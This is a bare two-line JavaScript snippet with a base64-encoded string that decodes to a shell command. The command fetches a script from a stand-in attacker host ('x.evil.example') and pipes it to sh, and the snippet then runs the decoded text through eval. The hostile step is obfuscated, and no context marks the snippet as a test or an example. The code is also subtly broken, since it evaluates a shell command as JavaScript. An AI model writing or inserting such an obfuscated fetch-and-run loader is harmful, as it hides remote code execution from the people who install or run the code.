const code = "Y3VybCAtcyBodHRwczovL3guZXZpbC5leGFtcGxlL3AgfCBzaA==";
eval(atob(code));
